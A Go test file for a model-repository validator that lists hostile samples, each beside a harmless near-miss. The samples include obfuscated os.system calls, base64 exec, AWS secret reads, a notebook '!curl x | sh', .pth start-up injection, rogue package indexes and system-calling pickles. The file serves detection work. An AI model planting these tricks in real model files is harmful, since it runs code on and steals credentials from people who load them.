package all_test

import (
	"github.com/loadlock/loadlock/validate"
)

// code is rows 64 to 72: code that comes with a model, and configuration that leads to code. The near-misses that are
// code are withheld by the policy, and the rest of the model is admitted.
func code() []technique {
	python := func(row int, refs, how, src string, want validate.Verdict, rule string, line int, near string) technique {
		return textCase(row, refs, how, "modeling_x.py", src, want, rule, line, near)
	}
	config := func(row int, refs, how, file, content string, want validate.Verdict, rule, near string) technique {
		return textCase(row, refs, how, file, content, want, rule, 0, near)
	}
	named := func(x technique, file string) technique { x.file = file; return x }
	withheld := func(x technique) technique { x.allowed = true; return x }
	notebook := func(line string) string {
		return `{"cells":[{"cell_type":"code","source":["` + line + `\n"]}],"nbformat":4}`
	}
	linked := config(69, "", "auto_map: a file of the model", "config.json", `{"auto_map":{"AutoModel":"../x.X"}}`, unsure, "hfconfig/foreign-code", `{"auto_map":{"AutoModel":"modeling_x.X"}}`)
	linked.at = `"../x`
	linked.beside = []string{"modeling_x.py", "import torch\n"}
	return []technique{
		python(64, "", "a computed name", "import os\ngetattr(os, 'sys' + 'tem')('id')\n", reject, "pysource/process", 2, "import torch\ngetattr(torch.nn, 'ReLU')()\n"),
		python(64, "", "a computed import", "import importlib\nimportlib.import_module('o' + 's').system('id')\n", reject, "pysource/process", 2, "import importlib.util\nimportlib.util.find_spec('flash_attn')\n"),
		python(64, "", "decoded source", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", reject, "pysource/execution", 2, "import base64\ntable = base64.b64decode('cHJpbnQoMSk=')\n"),
		python(64, "", "native code", "import ctypes\nctypes.CDLL('libc.so.6').system(b'id')\n", reject, "pysource/native-code", 2, "import re\nre.compile('libc.so.6')\n"),
		python(64, "", "a re-export", "import torch\ntorch.serialization.os.system('id')\n", reject, "pysource/process", 2, "import torch\ntorch.load('x.bin', weights_only=True)\n"),
		python(64, "", "a decorator", "import os\n@os.system\ndef f(): pass\n", reject, "pysource/process", 2, "import torch\n@torch.no_grad()\ndef f(): pass\n"),
		python(64, "", "an operator", "import os\nclass A:\n    __add__ = os.system\nA() + 'id'\n", reject, "pysource/process", 3, "class A:\n    def __add__(self, x): return x\nA() + 'id'\n"),
		python(64, "", "a second stage", "import urllib.request\nurllib.request.urlretrieve('http://x/y', 'z')\n", reject, "pysource/network", 2, "text = 'http://x/y'\n"),
		python(64, "", "credentials", "import os\nkey = os.environ['AWS_SECRET_ACCESS_KEY']\n", reject, "pysource/environment", 2, "import os\nrank = int(os.environ.get('LOCAL_RANK', 0))\n"),
		python(64, "", "subclasses of object", "x = ().__class__.__base__.__subclasses__()\n", reject, "pysource/introspection", 1, "x = type(()).__name__\n"),
		python(64, "", "a loader that is replaced", "import torch\ntorch.load = lambda *a, **k: None\n", reject, "pysource/monkey-patch", 2, "import torch\nload = torch.nn.ReLU\n"),
		python(65, "", "UTF-7", "# coding: utf-7\n+AGkAbQBwAG8AcgB0 os\n", unsure, "pysource/encoding", 0, "# coding: utf-8\nx = 1\n"),
		python(65, "", "a payload behind a carriage return in a comment", "# a comment\rimport os; os.system('id')\n", reject, "pysource/process", 2, "# a comment\r\nx = 1\n"),
		python(66, "", "full width letters", "import os\nos.ｓｙｓｔｅｍ('id')\n", reject, "pysource/process", 2, "α = 1\nβ = α\n"),
		python(66, "", "a long s", "import os\nos.ſystem('id')\n", reject, "pysource/spelling", 2, "größe = 1\n"),
		withheld(python(67, "", "bidirectional controls", "x = 'user\u202e \u2066# check\u2069 \u2066'\n", unsure, "pysource/hidden-characters", 1, "x = 'שלום'\n")),
		withheld(python(67, "", "a homoglyph", "def ореn(x): pass\nоpen = 1\n", unsure, "pysource/hidden-characters", 2, "имя = 1\n")),
		named(python(68, "", "setup.py", "import os\nos.system('id')\n", reject, "pysource/process", 2, "from setuptools import setup\n"), "setup.py"),
		named(python(68, "", "__init__.py", "exec(open('x').read())\n", reject, "pysource/execution", 1, "from .a import b\n"), "__init__.py"),
		named(python(68, "", "hubconf.py", "import subprocess\nsubprocess.run('id')\n", reject, "pysource/process", 2, "import torch\n"), "hubconf.py"),
		named(python(68, "", "handler.py", "import socket\nsocket.create_connection(('x', 1))\n", reject, "pysource/network", 2, "import torch\n"), "handler.py"),
		named(python(68, "", "custom_generate/generate.py", "import os\nos.popen('id')\n", reject, "pysource/process", 2, "def generate(model): return model\n"), "custom_generate/generate.py"),
		{row: 68, how: "sitecustomize.py", file: "sitecustomize.py", bytes: []byte("x = 1\n"), want: reject, rule: "pysource/start-up-file", at: "^", nearFile: "customize.py", near: []byte("x = 1\n")},
		{row: 68, how: "a path file", file: "x.pth", bytes: []byte("some/folder\nimport os; os.system('id')\n"), want: reject, rule: "pysource/path-file", at: "import os", near: []byte("some/folder\nimportant\n")},
		{row: 68, how: "byte code", allowed: true, file: "__pycache__/x.pyc", bytes: []byte("\xa7\x0d\r\n\x00\x00\x00\x00abcdefgh\xe3\x00\x00"), want: unsure, rule: "pysource/byte-code", at: "^", nearFile: "x.txt", near: []byte("byte code\n")},
		at(named(config(68, "", "a notebook", "x.ipynb", notebook("!curl x | sh"), reject, "pysource/notebook-command", notebook("x = 1")), "x.ipynb"), `"!curl`),
		linked,
		at(config(69, "", "auto_map: another repository", "config.json", `{"auto_map":{"AutoModel":"org/repo--x.X"}}`, unsure, "hfconfig/foreign-code", `{"auto_map":null}`), `"org/repo`),
		at(config(69, "", "auto_map of a tokenizer", "tokenizer_config.json", `{"auto_map":{"AutoTokenizer":["org/repo--x.X",null]}}`, unsure, "hfconfig/foreign-code", `{"tokenizer_class":"LlamaTokenizer"}`), `"org/repo`),
		at(config(69, "", "custom_pipelines", "config.json", `{"custom_pipelines":{"t":{"impl":"x.Y"}}}`, unsure, "hfconfig/custom-pipeline", `{"pipeline_tag":"text-generation"}`), `"x.Y"`),
		at(config(69, "", "a component of diffusers", "model_index.json", `{"_class_name":"StableDiffusionPipeline","unet":["my_unet","U"]}`, unsure, "hfconfig/custom-pipeline", `{"_class_name":"StableDiffusionPipeline","unet":["diffusers","UNet2DConditionModel"]}`), `"my_unet"`),
		at(config(70, "CVE-2026-4372", "a hub kernel by the internal key", "config.json", `{"_attn_implementation_internal":"org/kernel"}`, reject, "hfconfig/attn-implementation", `{"_attn_implementation":"flash_attention_2"}`), `"org/kernel`),
		at(config(70, "", "a hub kernel by the public key", "config.json", `{"_attn_implementation":"org/kernel@main:f"}`, reject, "hfconfig/attn-implementation", `{"_attn_implementation":"sdpa"}`), `"org/kernel`),
		at(config(71, "", "another index", "requirements.txt", "--extra-index-url http://x/simple\ntorch\n", reject, "pysource/dependency", "torch>=2.1,<3\n"), "^"),
		at(config(71, "", "a package by its address", "requirements.txt", "foo @ https://x/foo.whl\n", unsure, "pysource/odd-dependency", "transformers==4.40.0\n"), "^"),
		at(config(71, "", "a repository", "requirements.txt", "git+https://x/y\n", unsure, "pysource/odd-dependency", "numpy\n"), "^"),
		at(config(71, "", "an editable install", "requirements.txt", "-e .\n", unsure, "pysource/odd-dependency", "scipy\n"), "^"),
		at(config(71, "", "a near miss of a name", "requirements.txt", "torhc\n", unsure, "pysource/odd-dependency", "torch\n"), "^"),
		sidePickle("rng_state.pth"), sidePickle("training_args.bin"), sidePickle("optimizer.pt"), sidePickle("scheduler.pt"),
	}
}

// sidePickle is row 72: files that a trainer loads without being asked to.
func sidePickle(name string) technique {
	x := call(72, "CVE-2026-1839", name, "PROTO 2; "+system, denied, callAt, ordered)
	x.file = name
	return x
}
